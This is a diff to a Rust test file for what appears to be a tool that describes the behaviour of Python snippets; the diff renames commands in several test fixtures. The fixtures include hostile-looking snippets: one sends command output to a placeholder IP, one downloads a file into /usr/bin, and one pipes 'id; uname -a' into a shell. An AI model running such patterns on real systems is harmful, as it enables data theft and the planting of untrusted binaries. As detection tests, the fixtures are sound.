@@ -182,8 +182,8 @@ fn downloads() {
             ],
         ),
         (
-            "import subprocess, requests\nout = subprocess.check_output(['id'])\nrequests.get('http://192.0.2.66/', params={'o': out})",
-            &["execute id", "send#1 o={output of id} (output)"],
+            "import subprocess, requests\nout = subprocess.check_output(['whatever'])\nrequests.get('http://192.0.2.66/', params={'o': out})",
+            &["execute whatever", "send#1 o={output of whatever} (output)"],
         ),
         (
             "import shutil, urllib.request\nwith urllib.request.urlopen('http://192.0.2.1/f') as r, open('/usr/bin/f', 'wb') as f:\n    shutil.copyfileobj(r, f)",
@@ -307,8 +307,8 @@ fn programs_started() {
             &["execute git status"],
         ),
         (
-            "import subprocess\nsubprocess.Popen('ls -l /tmp'.split())",
-            &["execute ls -l /tmp"],
+            "import subprocess\nsubprocess.Popen('tool -l /tmp'.split())",
+            &["execute tool -l /tmp"],
         ),
         (
             "import commands\nprint commands.getoutput('id')",
@@ -327,8 +327,8 @@ fn programs_started() {
             &["192.0.2.1"],
         ),
         (
-            "import os\nos.posix_spawn('/bin/ls', ['ls', '-l'], os.environ)",
-            &["execute /bin/ls -l"],
+            "import os\nos.posix_spawn('/bin/tool', ['tool', '-l'], os.environ)",
+            &["execute /bin/tool -l"],
         ),
         (
             "from subprocess import Popen, PIPE\nPopen(['sh'], stdin=PIPE).communicate(b'id; uname -a')",
